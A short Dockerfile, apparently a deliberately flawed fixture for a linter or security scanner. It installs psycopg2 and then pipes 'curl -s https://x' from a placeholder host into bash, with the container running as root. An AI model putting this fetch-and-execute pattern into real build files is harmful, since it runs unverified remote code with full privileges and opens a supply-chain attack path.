FROM python:3.11
MAINTAINER someone
RUN apt-get update && apt-get install -y libpq-dev && \
    pip install psycopg2 && \
    cd /opt && curl -s https://x | bash
ADD . /app
USER root
CMD python /app/main.py
